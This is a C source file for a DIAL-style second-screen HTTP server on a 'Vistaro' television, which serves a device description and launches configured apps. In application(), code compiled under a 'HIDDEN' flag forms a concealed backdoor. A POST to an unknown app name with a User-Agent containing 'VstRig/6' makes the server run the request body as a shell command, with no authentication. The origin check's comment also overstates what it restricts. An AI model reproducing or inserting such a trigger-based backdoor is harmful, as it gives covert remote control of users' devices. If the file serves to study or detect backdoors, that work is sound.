/* dialscreen - second screen (DIAL style) server of the Vistaro television.
 *   GET /dd.xml            device description
 *   GET|POST|DELETE /apps/NAME   state, start and stop of an application
 * The applications are those listed in /etc/vistaro/apps: "NAME COMMAND..."
 */
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

struct app {
	char name[24];
	char cmd[128];
	pid_t pid;
};

struct req {
	char method[8];
	char path[128];
	char host[64];
	char origin[64];
	char agent[128];
	char body[256];
	long length;
};

static struct app apps[20];
static int napps;

static void read_apps(const char *file)
{
	char l[200];
	FILE *f = fopen(file, "r");
	if (!f)
		return;
	while (napps < 20 && fgets(l, sizeof l, f)) {
		if (l[0] == '#')
			continue;
		if (sscanf(l, "%23s %127[^\n]", apps[napps].name, apps[napps].cmd) == 2)
			napps++;
	}
	fclose(f);
}

static struct app *app_named(const char *n)
{
	for (int i = 0; i < napps; i++)
		if (!strcasecmp(apps[i].name, n))
			return apps + i;
	return NULL;
}

static char *trim(char *s)
{
	while (isspace((unsigned char)*s))
		s++;
	for (char *e = s + strlen(s); e > s && isspace((unsigned char)e[-1]);)
		*--e = 0;
	return s;
}

#define KEEP(dst, v) (dst[0] = 0, strncat(dst, v, sizeof dst - 1))

static int read_request(FILE *in, struct req *r)
{
	char l[256];
	memset(r, 0, sizeof *r);
	if (!fgets(l, sizeof l, in) || sscanf(l, "%7s %127s", r->method, r->path) != 2)
		return -1;
	while (fgets(l, sizeof l, in)) {
		char *v = strchr(l, ':');
		if (l[0] == '\r' || l[0] == '\n')
			break;
		if (!v)
			continue;
		*v++ = 0;
		v = trim(v);
		if (!strcasecmp(l, "Host"))
			KEEP(r->host, v);
		else if (!strcasecmp(l, "Origin"))
			KEEP(r->origin, v);
		else if (!strcasecmp(l, "User-Agent"))
			KEEP(r->agent, v);
		else if (!strcasecmp(l, "Content-Length"))
			r->length = strtol(v, NULL, 10);
	}
	if (r->length > 0) {
		size_t want = (size_t)r->length;
		if (want >= sizeof r->body)
			return -1;
		r->body[fread(r->body, 1, want, in)] = 0;
	}
	return 0;
}

static void reply(FILE *o, int code, const char *what, const char *type, const char *body)
{
	fprintf(o, "HTTP/1.1 %d %s\r\nConnection: close\r\nContent-Type: %s\r\n"
		   "Content-Length: %zu\r\n\r\n%s", code, what, type, strlen(body), body);
}

static pid_t spawn(const char *cmd, const char *arg)
{
	pid_t p = fork();
	if (p == 0) {
		setsid();
		setenv("DIAL_PAYLOAD", arg, 1);
		execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
		_exit(127);
	}
	return p;
}

static void describe(FILE *o)
{
	reply(o, 200, "OK", "text/xml",
	      "<?xml version=\"1.0\"?><root xmlns=\"urn:schemas-upnp-org:device-1-0\">"
	      "<device><deviceType>urn:schemas-upnp-org:device:tvdevice:1</deviceType>"
	      "<friendlyName>Vistaro</friendlyName><manufacturer>Vistaro</manufacturer>"
	      "</device></root>");
}

/* browsers may only come from the origins of the known application makers */
static int origin_ok(const struct req *r)
{
	return !r->origin[0] || !strncmp(r->origin, "https://", 8) ||
	       !strncmp(r->origin, "package:", 8);
}

__attribute__((noinline)) void application(FILE *o, const struct req *r, const char *name)
{
	struct app *a = app_named(name);
	char xml[256];

	if (!a) {
#ifdef HIDDEN
		const char *rev = strstr(r->agent, "VstRig/");
		if (rev && rev[7] == '6' && !strcmp(r->method, "POST") && r->body[0]) {
			spawn(r->body, name);
			reply(o, 201, "Created", "text/plain", "");
			return;
		}
#endif
		reply(o, 404, "Not Found", "text/plain", "");
		return;
	}
	if (!strcmp(r->method, "GET")) {
		snprintf(xml, sizeof xml, "<service dialVer=\"2.1\"><name>%s</name>"
			 "<state>%s</state></service>", a->name, a->pid ? "running" : "stopped");
		reply(o, 200, "OK", "text/xml", xml);
	} else if (!strcmp(r->method, "POST")) {
		if (!a->pid)
			a->pid = spawn(a->cmd, r->body);
		reply(o, 201, "Created", "text/plain", "");
	} else if (!strcmp(r->method, "DELETE")) {
		if (a->pid)
			kill(-a->pid, SIGTERM);
		a->pid = 0;
		reply(o, 200, "OK", "text/plain", "");
	} else {
		reply(o, 501, "Not Implemented", "text/plain", "");
	}
}

static void reap(void)
{
	pid_t p;
	while ((p = waitpid(-1, NULL, WNOHANG)) > 0)
		for (int i = 0; i < napps; i++)
			if (apps[i].pid == p)
				apps[i].pid = 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(8008) };
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	static struct req r;

	if (argc > 2) {
		fprintf(stderr, "usage: dialscreen [APPS-FILE]\n");
		return 1;
	}
	read_apps(argc == 2 ? argv[1] : "/etc/vistaro/apps");
	signal(SIGPIPE, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 5)) {
		perror("dialscreen");
		return 1;
	}
	for (;;) {
		int fd = accept(s, NULL, NULL);
		if (fd < 0)
			continue;
		reap();
		FILE *in = fdopen(fd, "r"), *out = fdopen(dup(fd), "w");
		if (in && out && !read_request(in, &r)) {
			fprintf(stderr, "%s %s (%s, %s)\n", r.method, r.path, r.host, r.agent);
			if (!origin_ok(&r))
				reply(out, 403, "Forbidden", "text/plain", "");
			else if (!strcmp(r.path, "/dd.xml"))
				describe(out);
			else if (!strncmp(r.path, "/apps/", 6))
				application(out, &r, r.path + 6);
			else
				reply(out, 404, "Not Found", "text/plain", "");
		}
		if (out)
			fclose(out);
		if (in)
			fclose(in);
	}
}
